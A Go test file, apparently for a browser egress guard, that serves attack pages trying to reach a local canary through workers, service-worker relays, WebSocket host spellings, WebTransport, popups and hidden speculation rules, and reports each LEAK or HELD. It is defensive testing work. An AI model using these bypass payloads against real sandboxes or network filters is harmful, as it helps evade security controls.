package main

// Attack pages of a live session in the user's own browser context: pages
// of the session try to reach the canary on 127.0.0.2 by paths the egress
// suite may not cover. Each attack tags its canary URL with "attack-<tag>",
// so the canary's log says which path got through.

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/remote"

	"github.com/browsergate/browsergate/examples/demosite"
	"github.com/browsergate/browsergate/internal/testkit"
)

// attackSite serves the attack pages on an allowed site (127.0.0.1) and
// its cross-site twin (127.0.0.3).
type attackSite struct {
	canary, ws, self, xsite, udp, self2, user string
}

func payloadJS(tag string) string {
	return fmt.Sprintf(`try{fetch("{{C}}/attack-%[1]s-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
try{new WebSocket("{{WS}}/ws/attack-%[1]s-ws")}catch(e){}
try{if(typeof navigator.sendBeacon==="function")navigator.sendBeacon("{{C}}/attack-%[1]s-beacon","x")}catch(e){}
`, tag)
}

// specRules is a speculation-rules JSON that prefetches the canary for tag.
func specRules(tag string) string {
	return `{"prefetch":[{"source":"list","urls":["{{C}}/attack-` + tag + `"]}]}`
}

const attackHead = `<!doctype html><meta charset=utf-8><title>attack</title><p id=status>start</p><script>function done(){document.getElementById('status').textContent='done'}</script>`

func (s *attackSite) expand(body string) string {
	return strings.NewReplacer("{{C}}", s.canary, "{{WS}}", s.ws, "{{S}}", s.self, "{{X}}", s.xsite, "{{U}}", s.udp, "{{S2}}", s.self2, "{{USER}}", s.user).Replace(body)
}

func (s *attackSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	tag := r.URL.Query().Get("tag")
	js := func(body string) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, s.expand(body))
	}
	page := func(body string) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, s.expand(attackHead+body))
	}
	p := strings.TrimPrefix(r.URL.Path, "/")
	switch p {
	// --- scripts ---
	case "w.js": // dedicated / shared worker body
		js(payloadJS(tag) + `try{const es=new EventSource("{{C}}/attack-` + tag + `-es")}catch(e){}
onconnect=e=>{e.ports[0].postMessage("hi")};postMessage("hi");`)
	case "wn.js": // worker that starts a nested worker
		js(`const n=new Worker("/w.js?tag=` + tag + `");n.onmessage=()=>postMessage("nested");postMessage("outer");`)
	case "sw.js":
		js(`self.addEventListener("install",e=>{` + payloadJS(tag+"-install") + `});
self.addEventListener("activate",e=>{` + payloadJS(tag+"-activate") + `});
self.addEventListener("message",e=>{` + payloadJS(tag+"-msg") + `});`)
	case "relay.js": // a shared worker / service worker that sends what it is told
		js(`function go(u,p){fetch(u,{mode:"no-cors"}).then(r=>p&&p.postMessage("fetch ok "+r.type),e=>p&&p.postMessage("fetch err "+e)); try{new WebSocket(u.replace(/^http/,"ws").replace(/\/(attack-)/,"/ws/$1"))}catch(e){p&&p.postMessage("ws err "+e)}}
onconnect=e=>{const p=e.ports[0];p.onmessage=m=>{p.postMessage("got "+m.data);go(m.data,p)};p.start();p.postMessage("connected")};
self.addEventListener("message",e=>go(e.data,e.source));
self.addEventListener("install",e=>self.skipWaiting());
self.addEventListener("activate",e=>e.waitUntil(clients.claim()));`)
	// --- pages ---
	case "payload":
		page(`<script>` + payloadJS(tag) + `setTimeout(()=>{` + payloadJS(tag+"-late") + `done()},500)</script>`)
	case "shw-blob":
		page(`<script>const src=` + "`" + payloadJS("shw-blob") + `onconnect=e=>e.ports[0].postMessage("hi");` + "`" + `;
try{const w=new SharedWorker(URL.createObjectURL(new Blob([src],{type:"text/javascript"})));w.port.start()}catch(e){document.body.append("ERR "+e)}
setTimeout(done,1500)</script>`)
	case "shw-data":
		page(`<script>const src=` + "`" + payloadJS("shw-data") + `onconnect=e=>e.ports[0].postMessage("hi");` + "`" + `;
try{const w=new SharedWorker("data:text/javascript,"+encodeURIComponent(src));w.port.start()}catch(e){document.body.append("ERR "+e)}
setTimeout(done,1500)</script>`)
	case "shw-same":
		page(`<script>const w=new SharedWorker("/w.js?tag=shw-same");w.port.start();setTimeout(done,1500)</script>`)
	case "shw-inner": // in a cross-site iframe
		page(`<script>try{const w=new SharedWorker("/w.js?tag=` + tag + `");w.port.start()}catch(e){document.body.append("ERR "+e)}</script>`)
	case "shw-xframe":
		page(`<iframe src="{{X}}/shw-inner?tag=shw-xframe"></iframe><script>setTimeout(done,2500)</script>`)
	case "sw-inner":
		page(`<script>navigator.serviceWorker.register("/sw.js?tag=` + tag + `").then(r=>document.body.append("registered"),e=>document.body.append("ERR "+e))</script>`)
	case "sw-xframe":
		page(`<iframe src="{{X}}/sw-inner?tag=sw-xframe"></iframe><script>setTimeout(done,3000)</script>`)
	case "dw":
		page(`<script>new Worker("/w.js?tag=dw");setTimeout(done,1500)</script>`)
	case "dw-nested":
		page(`<script>new Worker("/wn.js?tag=dw-nested");setTimeout(done,2000)</script>`)
	case "dw-blob":
		page(`<script>const src=` + "`" + payloadJS("dw-blob") + "`" + `;new Worker(URL.createObjectURL(new Blob([src],{type:"text/javascript"})));setTimeout(done,1500)</script>`)
	case "dw-inner":
		page(`<script>new Worker("/w.js?tag=` + tag + `")</script>`)
	case "dw-xframe":
		page(`<iframe src="{{X}}/dw-inner?tag=dw-xframe"></iframe><script>setTimeout(done,2500)</script>`)
	case "ws-srcdoc":
		page(`<iframe srcdoc="<script>` + strings.ReplaceAll(payloadJS("ws-srcdoc"), `"`, `&quot;`) + `</script>"></iframe><script>setTimeout(done,1500)</script>`)
	case "ws-aboutblank":
		page(`<script>const f=document.createElement("iframe");document.body.append(f);
try{new f.contentWindow.WebSocket("{{WS}}/ws/attack-ws-aboutblank-ws")}catch(e){}
try{f.contentWindow.fetch("{{C}}/attack-ws-aboutblank-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
setTimeout(done,1500)</script>`)
	case "ws-xframe":
		page(`<iframe src="{{X}}/payload?tag=ws-xframe"></iframe><script>setTimeout(done,2500)</script>`)
	case "ws-stream":
		page(`<script>try{const s=new WebSocketStream("{{WS}}/ws/attack-ws-stream");s.opened.then(()=>document.body.append("OPENED"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
	case "ws-httpscheme":
		page(`<script>try{new WebSocket("{{C}}/ws/attack-ws-httpscheme")}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
	case "ws-spellings":
		page(`<script>const port=new URL("{{C}}").port;
for(const h of ["2130706434","0x7f.0.0.2","127.0.0.2.","[::ffff:127.0.0.2]","127.2","%31%32%37.0.0.2","0177.0.0.2","[::ffff:7f00:2]","127.0.0.02"]){
 try{new WebSocket("ws://"+h+":"+port+"/ws/attack-ws-spellings-"+encodeURIComponent(h))}catch(e){document.body.append("ERR "+h+" "+e+" ")}}
setTimeout(done,1500)</script>`)
	case "webtransport":
		page(`<script>try{const t=new WebTransport("https://{{U}}/attack-webtransport");t.ready.then(()=>document.body.append("READY"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,2000)</script>`)
	case "popup-noopener":
		page(`<button id=go onclick="window.open('/payload?tag=popup-noopener','_blank','noopener');setTimeout(done,1500)">go</button>`)
	case "popup-link":
		page(`<a id=go href="/payload?tag=popup-link" target=_blank rel=noopener onclick="setTimeout(done,1500)">go</a>`)
	case "popup-form":
		page(`<form target=_blank action="/payload" onsubmit="setTimeout(done,1500)"><input name=tag value=popup-form><button id=go>go</button></form>`)
	case "popup-popup":
		page(`<button id=go onclick="window.open('/popper?tag=popup-popup');setTimeout(done,2500)">go</button>`)
	case "popper":
		page(`<script>const q=window.open("/payload?tag=` + tag + `");document.body.append(q?"opened":"blocked");
const a=document.createElement("a");a.href="/payload?tag=` + tag + `-link";a.target="_blank";document.body.append(a);a.click();</script>`)
	case "popup-inner": // a frame whose click opens a popup
		page(`<style>body{margin:0}#b{width:100vw;height:100vh;display:block}</style><button id=b onclick="window.open('{{S}}/payload?tag=` + tag + `','_blank'` + map[bool]string{true: `,'noopener'`, false: ""}[r.URL.Query().Get("noopener") != ""] + `)">in frame</button>`)
	case "popup-xframe":
		page(`<iframe id=go style="width:300px;height:200px;border:0" src="{{X}}/popup-inner?tag=popup-xframe"></iframe><script>setTimeout(done,2500)</script>`)
	case "popup-xframe-noopener":
		page(`<iframe id=go style="width:300px;height:200px;border:0" src="{{X}}/popup-inner?tag=popup-xframe-noopener&noopener=1"></iframe><script>setTimeout(done,2500)</script>`)
	case "popup-sameframe":
		page(`<iframe id=go style="width:300px;height:200px;border:0" src="/popup-inner?tag=popup-sameframe"></iframe><script>setTimeout(done,2500)</script>`)
	case "popup-viaframe":
		page(`<iframe id=f src="/payload?tag=none"></iframe><button id=go onclick="document.getElementById('f').contentWindow.open('{{S}}/payload?tag=popup-viaframe');setTimeout(done,1500)">go</button>`)
	case "popup-viaframe-noopener":
		page(`<iframe id=f src="/payload?tag=none"></iframe><button id=go onclick="document.getElementById('f').contentWindow.open('{{S}}/payload?tag=popup-viaframe-noopener','_blank','noopener');setTimeout(done,1500)">go</button>`)
	case "popup-viablank":
		page(`<iframe id=f></iframe><button id=go onclick="document.getElementById('f').contentWindow.open('{{S}}/payload?tag=popup-viablank');setTimeout(done,1500)">go</button>`)
	case "popup-onload-xframe": // no gesture: is the popup blocker on?
		page(`<iframe src="{{X}}/opener-inner?tag=popup-onload-xframe"></iframe><script>setTimeout(done,2500)</script>`)
	case "opener-inner":
		page(`<script>const w=window.open("{{S}}/payload?tag=` + tag + `");document.body.append(w?"opened":"blocked")</script>`)
	case "shw-samesite":
		page(`<iframe src="{{S2}}/shw-inner?tag=shw-samesite"></iframe><script>setTimeout(done,2500)</script>`)
	case "sw-samesite":
		page(`<iframe src="{{S2}}/sw-inner?tag=sw-samesite"></iframe><script>setTimeout(done,3000)</script>`)
	case "prerender-inscope":
		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["/payload?tag=prerender-inscope"]}]}</script><script>setTimeout(done,3000)</script>`)
	case "specrules-prefetch":
		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-prefetch-only"]}]}</script><script>setTimeout(done,3000)</script>`)
	case "specrules-prerender":
		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-prerender-only"]}]}</script><script>setTimeout(done,3000)</script>`)
	case "user-sw-use": // the user's own page asks its SW to fetch the user's (out of scope) site
		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{USER}}/user-sw-fetch");document.body.append("posted")})</script>`)
	case "specrules-rules.json": // rules named by a Speculation-Rules header
		w.Header().Set("Content-Type", "application/speculationrules+json")
		fmt.Fprint(w, s.expand(`{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-header-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-header-prerender"]}]}`))
	case "specrules-header":
		w.Header().Set("Speculation-Rules", `"/specrules-rules.json"`)
		page(`<script>setTimeout(done,3000)</script>`)
	case "specrules-dyn":
		page(`<script>const s=document.createElement("script");s.type="speculationrules";
s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/attack-specrules-dyn-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/attack-specrules-dyn-prerender"]}]});
document.head.append(s);setTimeout(done,3000)</script>`)
	case "specrules-shadow":
		page(`<div id=h></div><script>const r=document.getElementById("h").attachShadow({mode:"closed"});const s=document.createElement("script");s.type="speculationrules";
s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/attack-specrules-shadow-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/attack-specrules-shadow-prerender"]}]});
r.append(s);setTimeout(done,3000)</script>`)
	case "specrules-dsd":
		page(`<div><template shadowrootmode=open><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-dsd-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-dsd-prerender"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
	case "specrules-dsd-closed":
		page(`<div><template shadowrootmode=closed><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-dsd-closed-prefetch"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
	case "specrules-shadow-nested":
		page(`<div id=h></div><script>const r=document.getElementById("h").attachShadow({mode:"closed"});r.innerHTML="<div id=i></div>";const r2=r.getElementById("i").attachShadow({mode:"open"});
NodeList.prototype.item=()=>null;Element.prototype.remove=()=>{};
const s=document.createElement("script");s.type="speculationrules";
s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/attack-specrules-shadow-nested-prefetch"]}]});
r2.append(s);setTimeout(done,3000)</script>`)
	// Rules in spellings a watch for script elements may miss: a
	// namespaced type attribute ahead of the one Chromium reads, a
	// prefixed script element, an XHTML page, SVG script elements, a blank
	// popup the opener writes rules into.
	case "sr-nsattr":
		page(`<script>const s=document.createElement("script");s.setAttributeNS("urn:x","type","text/plain");s.setAttributeNS(null,"type","speculationrules");
s.textContent='` + specRules("sr-nsattr") + `';document.head.append(s);setTimeout(done,3000)</script>`)
	case "sr-prefixed":
		page(`<script>const s=document.createElementNS("http://www.w3.org/1999/xhtml","x:script");s.setAttribute("type","speculationrules");
s.textContent='` + specRules("sr-prefixed") + `';document.head.append(s);setTimeout(done,3000)</script>`)
	case "sr-xhtml":
		w.Header().Set("Content-Type", "application/xhtml+xml")
		fmt.Fprint(w, s.expand(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>attack</title></head><body><p id="status">start</p><script type="speculationrules">`+specRules("sr-xhtml")+`</script><script>setTimeout(function(){document.getElementById('status').textContent='done'},3000)</script></body></html>`))
	case "sr-svg-parser":
		page(`<svg><script type="speculationrules">` + specRules("sr-svg-parser") + `</script></svg><script>setTimeout(done,3000)</script>`)
	case "sr-svg-dyn":
		page(`<script>const s=document.createElementNS("http://www.w3.org/2000/svg","script");s.setAttribute("type","speculationrules");
s.textContent='` + specRules("sr-svg-dyn") + `';const v=document.createElementNS("http://www.w3.org/2000/svg","svg");document.body.append(v);v.append(s);setTimeout(done,3000)</script>`)
	case "sr-control": // sr-svg-dyn's residual, tagged per call: the browser still prefetches
		tag := "sr-control-" + r.URL.Query().Get("n")
		page(`<script>const s=document.createElementNS("http://www.w3.org/2000/svg","script");s.setAttribute("type","speculationrules");
s.textContent='` + specRules(tag) + `';const v=document.createElementNS("http://www.w3.org/2000/svg","svg");document.body.append(v);v.append(s);setTimeout(done,3000)</script>`)
	case "sr-docwrite-dsd-closed":
		page(`<script>document.write('<div><template shadowrootmode=closed><script type=speculationrules>` + specRules("sr-docwrite-dsd-closed") + `<\/script></template></div>')</script><script>setTimeout(done,3000)</script>`)
	case "pop-now":
		page(`<script>function go(){const w=window.open("");
try{const d=w.document;const s=d.createElement("script");s.type="speculationrules";s.textContent='` + specRules("pop-now") + `';d.head.append(s)}catch(e){document.body.append("ERRS "+e)}
setTimeout(done,2500)}</script><button id=go onclick="go()">go</button>`)
	case "pop-late":
		page(`<script>function go(){const w=window.open("");
setTimeout(()=>{try{const d=w.document;const s=d.createElement("script");s.type="speculationrules";s.textContent='` + specRules("pop-late") + `';d.head.append(s)}catch(e){document.body.append("ERRS "+e)}},1500);
setTimeout(done,4000)}</script><button id=go onclick="go()">go</button>`)
	case "specrules-retype":
		page(`<script id=r type=text/plain>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-retype-prefetch"]}]}</script><script>const o=document.getElementById("r");const s=document.createElement("script");s.type="text/plain";s.textContent=o.textContent;document.head.append(s);s.type="speculationrules";s.remove();document.head.append(s);setTimeout(done,3000)</script>`)
	case "dw-aboutblank":
		page(`<script>const f=document.createElement("iframe");document.body.append(f);
try{new f.contentWindow.Worker(URL.createObjectURL(new Blob([` + "`" + payloadJS("dw-aboutblank") + "`" + `],{type:"text/javascript"})))}catch(e){document.body.append("ERR "+e)}
try{new f.contentWindow.SharedWorker("/w.js?tag=shw-aboutblank")}catch(e){document.body.append("ERR "+e)}
setTimeout(done,1500)</script>`)
	case "specrules":
		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-prefetch"]}],
"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-prerender","/payload?tag=specrules-prerender-inscope"]}]}</script>
<link rel=prerender href="{{C}}/attack-link-prerender"><script>setTimeout(done,3000)</script>`)
	case "shw-relay-use": // a session page talks to a shared worker that is already running
		page(`<script>const w=new SharedWorker("/relay.js");w.port.onmessage=m=>document.body.append(" ["+m.data+"] ");w.port.start();
w.port.postMessage("{{C}}/attack-shw-relay");setTimeout(done,1500)</script>`)
	case "sw-relay-register": // the user's page registers the relay SW
		page(`<script>navigator.serviceWorker.register("/relay.js").then(()=>navigator.serviceWorker.ready).then(()=>{document.body.append("READY")})</script>`)
	case "sw-relay-use":
		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{C}}/attack-sw-relay");document.body.append("posted")});setTimeout(done,1500)</script>`)
	case "user-shw": // the user's page holds the relay shared worker
		page(`<script>const w=new SharedWorker("/relay.js");w.port.onmessage=m=>document.body.append(m.data);w.port.start()</script>`)
	default:
		http.NotFound(w, r)
	}
}

type attackEnv struct {
	f    *egressFixture
	site *attackSite
	port int // the user's Chromium DevTools port
	udp  *atomic.Int64
	// known: tags of measured residuals (measure), left out of overall.
	known []string
}

// startAttacks starts a user's Chromium (extra flags appended), browsergate
// live in the user's context, and the attack sites.
func startAttacks(t *testing.T, manifest string, chromiumFlags ...string) *attackEnv {
	t.Helper()
	return startAttacksOn(t, manifest, startChromiumFlags(t, chromiumFlags...))
}

// startAttacksOn is startAttacks with the user's Chromium already started, on
// DevTools port port.
func startAttacksOn(t *testing.T, manifest string, port int) *attackEnv {
	t.Helper()
	f := startManifest(t, manifest, "live", fmt.Sprintf("http://127.0.0.1:%d", port))
	s := &attackSite{canary: f.canaryTo, ws: "ws" + strings.TrimPrefix(f.canaryTo, "http")}
	self, stop, err := serveOn("127.0.0.1:0", s)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	x, stop2, err := serveOn("127.0.0.3:0", s)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop2)
	s.self, s.xsite = self, x
	self2, stop3, err := serveOn("127.0.0.1:0", s)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop3)
	s.self2 = self2
	// A UDP canary for QUIC (WebTransport).
	udp, err := net.ListenPacket("udp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	var n atomic.Int64
	go func() {
		buf := make([]byte, 4096)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			n.Add(1)
		}
	}()
	s.udp = udp.LocalAddr().String()
	return &attackEnv{f: f, site: s, port: port, udp: &n}
}

// startChromiumFlags starts a user's Chromium with extra flags, QUIC left
// on as in a user's own browser (the attacks try WebTransport).
func startChromiumFlags(t testing.TB, extra ...string) int {
	t.Helper()
	flags := slices.DeleteFunc(testkit.ChromiumFlags(), func(f string) bool { return f == "--disable-quic" })
	port, _ := testkit.StartChromium(t, append(flags, extra...)...)
	return port
}

// canaryFor lists what the canary saw for one tag.
func (e *attackEnv) canaryFor(tag string) []string {
	var out []string
	for _, s := range e.f.net.Seen() {
		if strings.Contains(s, "attack-"+tag) {
			out = append(out, s)
		}
	}
	return out
}

// attack opens page on the allowed site, clicks #go if asked, waits for
// "done" and a grace period, and reports what the canary saw for tag.
func (e *attackEnv) attack(t *testing.T, page, tag string, click bool, grace time.Duration) []string {
	t.Helper()
	f := e.f
	text, refused := f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
	t.Logf("navigate %s refused=%v: %s", page, refused, firstLine(text))
	if click && !refused {
		text, refused := f.call(t, "egress.click", map[string]any{"selector": "#go"})
		t.Logf("click refused=%v: %s", refused, strings.ReplaceAll(text, "\n", " | "))
	}
	text, refused = f.call(t, "egress.wait_for", map[string]any{"text": "done", "timeout_ms": 5000})
	t.Logf("wait_for done refused=%v: %s", refused, strings.ReplaceAll(text, "\n", " | "))
	time.Sleep(grace)
	body, _ := f.call(t, "egress.snapshot", nil)
	t.Logf("page: %s", strings.Join(strings.Fields(body), " "))
	got := e.canaryFor(tag)
	if len(got) > 0 {
		t.Errorf("LEAK %s: the canary saw %q", tag, got)
	} else {
		t.Logf("HELD %s (canary total: %s)", tag, f.net)
	}
	return got
}

const attackGrace = 2 * time.Second

// measure runs an attack whose path is a known residual and reports what
// the canary saw, without failing.
func (e *attackEnv) measure(t *testing.T, page string) {
	t.Helper()
	f := e.f
	text, refused := f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
	if refused {
		// A popup of an earlier case closed on the way is reported
		// first: ask again.
		text, refused = f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
	}
	if refused {
		t.Errorf("navigate %s refused: %s", page, firstLine(text))
	}
	if text, refused := f.call(t, "egress.wait_for", map[string]any{"text": "done", "timeout_ms": 5000}); refused {
		t.Errorf("%s never said done: %s", page, firstLine(text))
	}
	time.Sleep(2 * time.Second)
	tag := strings.NewReplacer("?n=", "-").Replace(page)
	t.Logf("RESIDUAL %s: the canary saw %q", page, e.canaryFor(tag))
}

// overall fails the test if the canary saw anything of the attacks' at
// all over the run: a request that arrives late, during another case,
// still went through.
func (e *attackEnv) overall(t *testing.T) {
	t.Helper()
	var got []string
	for _, s := range e.canaryFor("") {
		if !slices.ContainsFunc(e.known, func(k string) bool { return strings.Contains(s, k) }) {
			got = append(got, s)
		}
	}
	if len(got) > 0 {
		t.Errorf("over the whole run the canary saw %q", got)
	}
	t.Logf("canary overall: %s", e.f.net)
}

// TestLivePagesReachNothingByWorkers: shared workers (blob:, data:, same
// origin, cross-site frame), a service worker of a cross-site frame,
// dedicated, nested and blob workers, a worker in a cross-site frame.
func TestLivePagesReachNothingByWorkers(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest)
	for _, c := range []struct{ page, tag string }{
		{"shw-same", "shw-same"},
		{"shw-blob", "shw-blob"},
		{"shw-data", "shw-data"},
		{"shw-xframe", "shw-xframe"},
		{"sw-xframe", "sw-xframe"},
		{"dw", "dw"},
		{"dw-nested", "dw-nested"},
		{"dw-blob", "dw-blob"},
		{"dw-xframe", "dw-xframe"},
		{"dw-aboutblank", "dw-aboutblank"},
	} {
		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, attackGrace) })
	}
	// A last navigation ends the last case's page and its workers.
	e.f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/payload?tag=none"})
	time.Sleep(time.Second)
	e.overall(t)
}

// TestLivePagesReachNothingBySockets: WebSockets from frames and in other
// forms.
func TestLivePagesReachNothingBySockets(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest)
	for _, c := range []struct{ page, tag string }{
		{"ws-srcdoc", "ws-srcdoc"},
		{"ws-aboutblank", "ws-aboutblank"},
		{"ws-stream", "ws-stream"},
		{"ws-httpscheme", "ws-httpscheme"},
		{"ws-spellings", "ws-spellings"},
		{"ws-xframe", "ws-xframe"},
	} {
		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, attackGrace) })
	}
	e.overall(t)
}

// TestLivePagesReachNothingByPopups: popups by every opener the guard may
// not recognise.
func TestLivePagesReachNothingByPopups(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest)
	for _, c := range []struct{ page, tag string }{
		{"popup-noopener", "popup-noopener"},
		{"popup-link", "popup-link"},
		{"popup-form", "popup-form"},
		{"popup-popup", "popup-popup"},
		{"popup-sameframe", "popup-sameframe"},
		{"popup-xframe", "popup-xframe"},
		{"popup-xframe-noopener", "popup-xframe-noopener"},
	} {
		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, true, attackGrace) })
	}
	e.overall(t)
}

// TestLivePagesReachNothingBySpeculation: speculation rules and
// rel=prerender.
func TestLivePagesReachNothingBySpeculation(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest)
	// A control every few cases: rules the guard cannot take out (an SVG
	// script a page script inserts, a residual) must still reach the
	// canary, or the browser had stopped prefetching (it does after a
	// popup opens) and the cases before it prove nothing.
	n := 0
	control := func() {
		n++
		tag := fmt.Sprintf("sr-control-%d", n)
		e.measure(t, fmt.Sprintf("sr-control?n=%d", n))
		if len(e.canaryFor(tag)) == 0 {
			t.Errorf("control %d: the browser no longer prefetches, so the cases before it prove nothing", n)
		}
	}
	t.Run("specrules", func(t *testing.T) { e.attack(t, "specrules", "specrules", false, 3*time.Second) })
	for i, p := range []string{"specrules-header", "specrules-dyn", "specrules-shadow", "specrules-shadow-nested", "specrules-retype",
		"sr-nsattr", "sr-prefixed", "sr-xhtml", "sr-svg-parser"} {
		t.Run(p, func(t *testing.T) { e.attack(t, p, p, false, 2*time.Second) })
		if i%3 == 2 {
			control()
		}
	}
	// Known residuals, measured and reported, not asserted (README, "What
	// it does not cover"): rules inside a closed declarative shadow root,
	// from the server's HTML or document.write, and inside an open one when
	// the parser stops between its host and its template (the observer
	// runs before the root exists and hears nothing of it after: taken out
	// on an idle machine, leaked under a full CI run's load).
	for _, p := range []string{"specrules-dsd", "specrules-dsd-closed", "sr-docwrite-dsd-closed"} {
		e.measure(t, p)
		// The residual's requests are not held against the rest of the run.
		e.known = append(e.known, "attack-"+p)
	}
	control()
	e.known = append(e.known, "attack-sr-control")
	// Popups last: once one has opened, the browser stops prefetching for
	// the tab (so no control can follow; both cases leak without the
	// guard's window.open watch, run alone).
	for _, p := range []string{"pop-now", "pop-late"} {
		t.Run(p, func(t *testing.T) { e.attack(t, p, p, true, 2*time.Second) })
	}
	t.Run("link-prerender", func(t *testing.T) {
		if got := e.canaryFor("link-prerender"); len(got) > 0 {
			t.Errorf("LEAK link-prerender: %q", got)
		}
	})
	e.overall(t)
}

// TestSpeculationRulesWithPreloadingOff: in a user's browser whose "Preload
// pages" is off, as docs/live-mode.md asks, the speculation rules no
// observer can take out — in closed and open declarative shadow roots, and
// the SVG script TestLivePagesReachNothingBySpeculation uses as its
// control — make the browser fetch nothing: over the whole run the canary
// sees no request and no TCP connection. (With the setting on, the control
// reaches the canary: TestLivePagesReachNothingBySpeculation.)
func TestSpeculationRulesWithPreloadingOff(t *testing.T) {
	t.Parallel()
	flags := slices.DeleteFunc(testkit.ChromiumFlags(), func(f string) bool { return f == "--disable-quic" })
	port, _ := testkit.StartChromiumPreloadingOff(t, flags...)
	e := startAttacksOn(t, egressManifest, port)
	for _, p := range []string{"specrules", "specrules-dsd", "specrules-dsd-closed", "sr-docwrite-dsd-closed", "sr-control?n=1"} {
		e.measure(t, p)
	}
	time.Sleep(2 * time.Second) // a late prefetch would arrive meanwhile
	if !e.f.net.Clean() {
		t.Errorf("with Preload pages off, speculation rules reached the canary: %s", e.f.net)
	}
}

// TestLivePagesReachNothingByWebTransport: QUIC is not HTTP over TCP; a
// Chromium as a user runs it (QUIC on). Evidence is UDP datagrams at the
// canary address.
func TestLivePagesReachNothingByWebTransport(t *testing.T) {
	t.Parallel()
	e := startAttacks(t, egressManifest)
	e.attack(t, "webtransport", "webtransport", false, attackGrace)
	if n := e.udp.Load(); n > 0 {
		t.Errorf("LEAK webtransport: the UDP canary on %s received %d datagram(s) (QUIC Initial)", e.site.udp, n)
	} else {
		t.Logf("webtransport: no UDP datagram at %s", e.site.udp)
	}
}

// userTab opens a tab as the user (own DevTools connection) at u and
// waits until want appears in its body.
func (e *attackEnv) userTab(t *testing.T, u, want string) (context.Context, func()) {
	t.Helper()
	alloc, cancel1 := remote.NewAllocator(context.Background(), fmt.Sprintf("http://127.0.0.1:%d", e.port))
	user, cancel2 := chromedp.NewContext(alloc)
	cancel := func() { cancel2(); cancel1() }
	ctx, c3 := context.WithTimeout(user, 20*time.Second)
	defer c3()
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		cancel()
		t.Fatalf("user tab: %v", err)
	}
	if want != "" {
		var body string
		deadline := time.Now().Add(10 * time.Second)
		for time.Now().Before(deadline) {
			body, _ = chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
			if strings.Contains(body, want) {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Logf("user tab %s: %q", u, body)
	}
	return user, cancel
}

// TestLivePagesReachNothingThroughTheUsersWorkers: a worker of the
// allowed site that was already running when the session started (the
// user's tab on the same site keeps it) is the user's to the guard; a
// session page talks to it.
func TestLivePagesReachNothingThroughTheUsersWorkers(t *testing.T) {
	t.Parallel()
	// The user's browser and sites first, then the session.
	e := startAttacks(t, egressManifest)
	// Shared worker: the user's tab on the allowed site holds it.
	_, cancelA := e.userTab(t, e.site.self+"/user-shw", "connected")
	defer cancelA()
	// Service worker: the user's tab registered it.
	_, cancelB := e.userTab(t, e.site.self+"/sw-relay-register", "READY")
	defer cancelB()
	t.Run("shw-relay", func(t *testing.T) { e.attack(t, "shw-relay-use", "shw-relay", false, attackGrace) })
	t.Run("sw-relay", func(t *testing.T) { e.attack(t, "sw-relay-use", "sw-relay", false, attackGrace) })
	t.Logf("canary overall: %s", e.f.net)
	t.Logf("daemon stderr:\n%s", e.f.stderr.String())
}

var _ = runtime.Evaluate
var _ sync.Mutex

// TestLivePagesReachNothingThroughSubframesOrSingleRules: popups whose
// opener is a subframe, workers of a same-site frame on another port,
// speculation rules one by one.
